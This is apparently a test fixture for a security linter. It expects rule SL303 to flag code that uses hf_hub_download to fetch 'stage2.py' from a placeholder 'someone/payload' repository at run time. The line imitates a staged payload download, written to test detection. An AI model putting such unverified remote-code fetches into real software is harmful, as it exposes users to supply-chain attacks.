# expect: SL303 — downloads unverified code at run time
from huggingface_hub import hf_hub_download

path = hf_hub_download("someone/payload", "stage2.py")
